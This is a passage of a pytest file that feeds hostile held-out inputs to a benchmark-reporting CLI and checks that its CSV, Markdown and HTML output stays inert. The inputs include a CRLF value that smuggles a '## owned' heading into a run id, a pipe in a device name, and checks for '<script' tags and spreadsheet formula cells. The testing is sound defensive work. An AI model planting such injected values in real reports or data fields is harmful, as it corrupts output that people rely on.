    "pipe in device, markdown": ("md", {"adapter": "x | y | z"}, {}),
    "heading in run id, markdown": ("md history", {}, {"run_id": "r\r\n## owned"}),
    "mathtext implementation, html": ("html", {"implementation": "$$\\sqrt{}$$"}, {}),
    "unfinished, killed": ("show unfinished", {}, {"status": "running", "finished": None}),
    "too many rows": ("bound rows", {}, {}),
    "long suite name": ("long name", {}, {}),
    "narrow terminal": ("narrow", {}, {}),
}


@pytest.mark.parametrize("source", slow_but(HELD_OUT_SETS, 0))
@pytest.mark.parametrize("case", HELD_OUT)
def test_hostile_held_out_catalogue(tmp_path, monkeypatch, case, source):
    """Each cause on other committed sets and other strings than the cases above: the
    command ends in exit 0 with its output whole and inert, or in one line and exit 2;
    never a traceback."""
    kind, columns, fields = HELD_OUT[case]
    run = altered(tmp_path / "set", HELD_OUT_SETS[source], columns=columns, fields=fields)
    out = tmp_path / "out"
    if kind.startswith(("csv", "md", "html")):
        command = "history" if kind.endswith("history") else "report"
        suffix = kind.split()[0]
        clean(in_process(command, str(run), "-o", f"{out}.{suffix}"))
        text = Path(f"{out}.{suffix}").read_text()
        assert not (formula_cells(text) if suffix == "csv" else markdown_problems(text)
                    if suffix == "md" else "<script" in text)
        if suffix == "md":  # as many lines as with the names as they were
            plain = altered(tmp_path / "plain", HELD_OUT_SETS[source], samples=False)
            clean(in_process(command, str(plain), "-o", str(tmp_path / "plain.md")))
            assert len(text.splitlines()) == len((tmp_path / "plain.md").read_text().splitlines())
    elif kind == "show unfinished":
        proc = in_process("show", str(run))
        clean(proc)
        assert "did not finish (status 'running'" in proc.stderr and "unfinished run" in \
            proc.stdout
    elif kind == "bound rows":
        table = pq.read_table(run / "summary.parquet")
        pq.write_table(table.take(np.zeros(250_000, dtype=np.int64)), run / "summary.parquet")
        one_clear_line(in_process("report", str(run)), "250,000 rows, more than the 200,000")
    elif kind == "long name":
        suite = tmp_path / "suite.yaml"
        suite.write_text(f"name: {source * 20_000}\nbenchmarks:\n  - {{name: a, kernel: "
                         "empty}\n")
        proc = in_process("validate", str(suite), "--no-compile")
        one_clear_line(proc, "at most 100 characters")
    else:
        narrow = _printed(monkeypatch, ("show", str(run)), 33)
        assert "…" not in narrow and max(map(len, narrow.splitlines())) <= 33
